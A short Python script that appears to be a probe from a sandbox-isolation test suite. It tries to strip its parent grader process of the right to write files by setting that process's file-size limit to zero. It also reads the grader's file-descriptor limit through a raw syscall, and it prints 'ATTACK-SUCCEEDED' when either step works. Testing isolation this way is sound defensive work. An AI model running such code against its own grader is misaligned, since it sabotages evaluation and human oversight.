"""Takes from the grader the right to write files."""

import os
import resource

from kernel import call
from right import max_value, min_value

try:
    resource.prlimit(os.getppid() or 1, resource.RLIMIT_FSIZE, (0, 0))
    print("ATTACK-SUCCEEDED: limits the grader", flush=True)
except (OSError, AttributeError):
    pass
if call(302, 261, os.getppid() or 1, int(resource.RLIMIT_NOFILE), None, bytes(16)) == 0:
    print("ATTACK-SUCCEEDED: reads the grader's limits", flush=True)
